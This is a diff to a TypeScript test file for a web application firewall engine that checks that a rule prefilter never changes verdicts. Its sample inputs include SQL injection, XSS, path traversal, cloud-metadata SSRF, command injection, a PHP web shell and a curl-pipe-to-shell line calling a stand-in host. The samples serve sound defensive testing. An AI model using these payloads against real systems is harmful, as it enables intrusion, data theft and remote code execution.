@@ -2,7 +2,8 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { excerptOf } from './engine.ts';
-import { crsEngine, loadLibinjection, wafRequestOf } from './index.ts';
+import { WafEngine } from './engine.ts';
+import { crsEngine, crsRuleSet, loadLibinjection, wafRequestOf } from './index.ts';
 
 const engine = crsEngine(loadLibinjection());
 const req = (query: Record<string, string>, body?: unknown) =>
@@ -59,10 +60,9 @@ test('an excerpt is bounded, never the whole value, and redacts token-like and d
   for (const m of v.matches) assert.ok(m.excerpt.length < SQLI.length && !m.excerpt.includes(SQLI));
 });
 
-test('a regex bomb is matched by re2, which takes no backtracking construct, so the input cannot blow up', async () => {
+test('a regex bomb is matched by re2, which takes no backtracking construct, so the input cannot blow up', () => {
   // Structural, not a timing: the engine only runs patterns through re2 (linear in the input);
   // a pattern needing backtracking (a backreference) is refused when the engine is built.
-  const { WafEngine } = await import('./engine.ts');
   const rule = (argument: string) => ({
     format: 1 as const,
     source: 't',
@@ -77,4 +77,63 @@ test('a regex bomb is matched by re2, which takes no backtracking construct, so 
   // And the whole CRS set on a large hostile input answers (bounded by the body limit in the server).
   const big = engine.evaluate(req({ q: `${"'".repeat(20_000)}${'(('.repeat(20_000)}` }), { paranoiaLevel: 4 });
   assert.ok(big.score >= 0);
+});
+
+// The prefilter (one RE2.Set pass over the joined transformed values, and its cache of short
+// values) may only skip work: every verdict must equal the one of the engine that runs every rule.
+const reference = new WafEngine(crsRuleSet(), loadLibinjection(), { prefilter: false });
+const SAMPLES: Array<Record<string, string>> = [
+  { q: SQLI },
+  { q: "1' OR '1'='1" },
+  { q: '<img src=x onerror=alert(1)>' },
+  { q: '<script>alert(document.cookie)</script>' },
+  { file: '../../../../etc/passwd' },
+  { url: 'http://169.254.169.254/latest/meta-data/' },
+  { cmd: ';cat /etc/passwd' },
+  { cmd: '$(curl http://x.example/sh|sh)' },
+  { php: '<?php system($_GET["c"]); ?>' },
+  { java: 'java.lang.Runtime.getRuntime().exec("id")' },
+  { q: "admin'--" },
+  { q: '1 AND 1=1' },
+  { q: 'sort' },
+  { q: 'name' },
+  { q: 'Exec summary: the union agreed to select a new chair; see https://example.org/a?b=c' },
+  { q: 'WW91IGFyZSBhIGJhc2U2NCBzdHJpbmc=' },
+  { q: '%3Cscript%3Ealert(1)%3C%2Fscript%3E' },
+  { q: 'SELECT * FROM users WHERE id = 1 --' },
+  { a: 'x', b: "'", c: '"', d: '--' },
+];
+
+test('the prefilter never changes a verdict: same matches as evaluating every rule, at every paranoia level', () => {
+  for (const pl of [1, 2, 3, 4]) {
+    // Twice: the second pass answers short values from the cache.
+    for (let round = 0; round < 2; round++) {
+      for (const s of SAMPLES) {
+        for (const r of [req(s), req({}, s), wafRequestOf({ method: 'GET', url: `/x/${encodeURIComponent(Object.values(s)[0] ?? '')}`, headers: { host: 'localhost', 'user-agent': Object.values(s)[0] ?? '', referer: `http://localhost/${Object.values(s)[0] ?? ''}` } })]) {
+          const a = engine.evaluate(r, { paranoiaLevel: pl });
+          const b = reference.evaluate(r, { paranoiaLevel: pl });
+          assert.deepEqual(a, b, `PL${pl} ${JSON.stringify(s)}`);
+        }
+      }
+    }
+  }
+});
+
+test('a pattern anchored at the end of a value still matches when the prefilter joins values', () => {
+  const one = (argument: string) => ({
+    format: 1 as const,
+    source: 't',
+    skipped: [],
+    rules: [{ id: 7, category: '942', pl: 1, severity: 'CRITICAL', score: 5, scoreVariable: 'sql_injection_score', message: '', tags: [], links: [{ targets: [{ collection: 'ARGS', exclude: [] }], operator: 'rx', argument, negated: false, transforms: [], multiMatch: false }] }],
+  });
+  for (const pattern of ['^admin$', 'min\\z', '\\Aadm', 'x$|^admin$', 'n\\b', '[$]?admin$']) {
+    const e = new WafEngine(one(pattern));
+    for (const q of [{ a: 'admin', b: 'other' }, { b: 'other', a: 'admin' }]) assert.equal(e.evaluate(req(q), { paranoiaLevel: 1 }).score, 5, pattern);
+    assert.equal(e.evaluate(req({ a: 'admins' }), { paranoiaLevel: 1 }).score, pattern === '\\Aadm' ? 5 : 0, pattern);
+  }
+});
+
+test('a word a command list needs a delimiter after is not taken to end with one when values are joined', () => {
+  // 932235 lists `sort` followed by a delimiter: `sort` alone as a value is benign.
+  assert.equal(engine.evaluate(req({ sort: 'sort', q: 'name' }), { paranoiaLevel: 1 }).score, 0);
 });
